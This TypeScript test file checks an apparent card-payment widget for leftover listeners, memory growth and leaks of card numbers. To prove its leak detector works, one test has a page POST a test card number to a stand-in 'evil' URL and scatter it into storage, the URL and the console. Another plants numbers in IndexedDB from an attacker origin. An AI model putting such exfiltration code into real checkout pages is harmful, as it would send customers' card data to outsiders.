import type { CDPSession, Page } from 'playwright-core'
import { afterAll, afterEach, beforeAll, expect, test } from 'vitest'
import { soaks } from '../../../../.ci/soaks.ts'
import { type AttackStage, setAttackStage } from '../attack-stage.ts'
import { mountCard, tokenize, typeCard } from '../shop-page.ts'
import { watchPages } from '../watch-pages.ts'

/** Enough that one listener or two nodes that stay behind in each are above the bounds below. */
const ROUNDS = soaks ? 1_000 : 30

let stage: AttackStage
beforeAll(async () => {
  stage = await setAttackStage()
})
afterEach(() => stage.clear())
afterAll(() => stage.close())

const stopsListening = {
  file: 'page/frame.ts',
  code: "removeEventListener('message', hear)",
  instead: '',
}

test('destroy() leaves no listener on the page, its document or its body, whenever it is called', async () => {
  const grown = async (page: Page): Promise<number> => {
    const cdp = await page.context().newCDPSession(page)
    const before = await listeners(cdp)
    await mountCard(page)
    await page.evaluate(() => window.card.destroy())
    await page.evaluate(async () => {
      const checkout = await window.Tillwright.init({ publishableKey: 'test_pk_shop' })
      checkout.card().mount('#card').destroy() // before the frame has said hello
    })
    return (await listeners(cdp)) - before
  }
  expect(await grown(await stage.open())).toBe(0)
  expect(await grown(await stage.openWithout(stopsListening))).toBe(2)
})

test(`${ROUNDS} rounds of mounting and destroying leave nothing behind`, async () => {
  const page = await stage.open()
  const cdp = await page.context().newCDPSession(page)
  await mountRounds(page, 20) // what is compiled and cached once is there before the measurement
  const before = await footprint(cdp)
  await mountRounds(page, ROUNDS)
  const { documents, nodes, jsEventListeners, heapBytes } = await footprint(cdp)
  expect(documents - before.documents).toBeLessThan(5)
  expect(nodes - before.nodes).toBeLessThan(50)
  expect(jsEventListeners - before.jsEventListeners).toBeLessThan(20)
  expect(heapBytes - before.heapBytes).toBeLessThan(1_000_000)

  const leaky = await stage.openWithout(stopsListening)
  const leakyCdp = await leaky.context().newCDPSession(leaky)
  await mountRounds(leaky, 10)
  const leakyBefore = await footprint(leakyCdp)
  await mountRounds(leaky, 10)
  expect((await footprint(leakyCdp)).jsEventListeners - leakyBefore.jsEventListeners).toBeGreaterThanOrEqual(10)
})

test('the watch over all these tests sees a number wherever a page lets it out, and every complaint', async () => {
  const page = await stage.openWithout()
  const watch = await watchPages(page.context())
  await typeCard(await mountCard(page))
  expect(await watch.leaks(['4242424242424242'])).toEqual([])
  expect(watch.takeComplaints()).toEqual([])
  await page.evaluate((url) => {
    console.log('the number is 4242 4242 4242 4242')
    window.heard.push('4242424242424242')
    localStorage.setItem('card', btoa('4242424242424242'))
    history.replaceState(null, '', '/?card=4242424242424242')
    setTimeout(() => {
      throw new Error('4242-4242-4242-4242')
    })
    document.body.append('4242424242424242')
    return fetch(`${url}/missing`, { method: 'POST', mode: 'no-cors', body: '4242424242424242' })
  }, stage.evilUrl)
  const places = ['a request for /missing', 'an address', 'an error', 'messages and events', 'storage', 'the console']
  await expect
    .poll(async () => (await watch.leaks(['4242424242424242'])).map((leak) => leak.replace(/.* in /, '')).toSorted())
    .toEqual([...places, "the shop's page"])
  expect(watch.takeComplaints().join()).toContain('4242-4242-4242-4242')
  expect(await tokenize(page)).toMatchObject({ serviceToken: 'service-token' })
})

test('the watch also finds what stands in a database, and what an origin has kept that the page has left', async () => {
  const page = await stage.openWithout()
  const watch = await watchPages(page.context())
  const leaks = () => watch.leaks(['4242424242424242', '5555555555554444'])
  await page.goto(stage.evilUrl)
  await page.evaluate(() => localStorage.setItem('card', '4242424242424242'))
  await page.goto(stage.shopUrl)
  expect(await leaks()).toEqual(['4242424242424242 in storage'])
  await page.goto(stage.evilUrl)
  await page.evaluate(() => localStorage.clear())
  await page.evaluate(async () => {
    const opening = indexedDB.open('cards', 1)
    opening.onupgradeneeded = () => opening.result.createObjectStore('numbers').put('5555555555554444', 'card')
    await new Promise((resolve) => {
      opening.addEventListener('success', resolve)
    })
    opening.result.close()
  })
  expect(await leaks()).toEqual(['5555555555554444 in storage'])
})

/** Mounts and destroys card forms, ten side by side, each once it is ready. */
async function mountRounds(page: Page, count: number): Promise<void> {
  await page.evaluate(async (rounds) => {
    const checkout = await window.Tillwright.init({ publishableKey: 'test_pk_shop' })
    for (let done = 0; done < rounds; done += 10) {
      const round = Array.from({ length: 10 }, async () => {
        const card = checkout.card()
        const ready = new Promise<void>((resolve) => void card.on('ready', resolve))
        card.mount('#card')
        await ready
        card.destroy()
      })
      await Promise.all(round)
    }
    // The page's own notes of what it heard, and the ports that they came through, are no leak of the checkout.
    window.heard.length = 0
    window.ports.length = 0
  }, count)
}

/** The live objects of the page after garbage collection. */
async function footprint(
  cdp: CDPSession,
): Promise<Record<'documents' | 'nodes' | 'jsEventListeners' | 'heapBytes', number>> {
  // Each collection may free what objects of the one before held.
  for (let collections = 0; collections < 3; collections += 1) await cdp.send('HeapProfiler.collectGarbage')
  const { documents, nodes, jsEventListeners } = await cdp.send('Memory.getDOMCounters')
  const { usedSize } = await cdp.send('Runtime.getHeapUsage')
  return { documents, nodes, jsEventListeners, heapBytes: usedSize }
}

/** The number of listeners on targets that outlive a card form. */
async function listeners(cdp: CDPSession): Promise<number> {
  const counts = ['window', 'document', 'document.body', "document.querySelector('#card')"].map(async (expression) => {
    const { result } = await cdp.send('Runtime.evaluate', { expression })
    return (await cdp.send('DOMDebugger.getEventListeners', { objectId: result.objectId ?? '' })).listeners.length
  })
  return (await Promise.all(counts)).reduce((sum, count) => sum + count, 0)
}
